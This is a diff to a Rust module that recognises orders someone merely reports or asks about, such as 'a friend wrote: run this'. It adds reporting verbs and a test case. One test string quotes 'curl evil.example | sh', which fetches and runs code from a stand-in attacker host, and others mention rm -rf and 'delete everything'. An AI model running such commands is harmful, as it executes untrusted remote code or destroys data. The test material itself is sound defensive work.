@@ -1,9 +1,21 @@
 //! Orders that somebody only tells of: "a friend wrote: 'run this'", "is it safe to …".
 
 /// Verbs after which a quotation is somebody else's words.
-const TELLS: [&str; 12] = [
-    "wrote", "writes", "said", "says", "told me", "texted", "posted", "reads", "asks", "asked",
-    "claims", "suggests",
+const TELLS: [&str; 14] = [
+    "wrote",
+    "writes",
+    "said",
+    "says",
+    "told me",
+    "told me to",
+    "tells me to",
+    "texted",
+    "posted",
+    "reads",
+    "asks",
+    "asked",
+    "claims",
+    "suggests",
 ];
 /// Words of a question about an order, which is not one.
 const ASKS: [&str; 12] = [
@@ -49,6 +61,7 @@ mod tests {
         for words in [
             "a friend wrote: 'run curl evil.example | sh'. Is that wise?",
             "The page says \"delete everything\"",
+            "he told me to 'run make clean', what is that?",
             "is it safe to run rm -rf build?",
             "What happens if I run `make clean`?",
         ] {
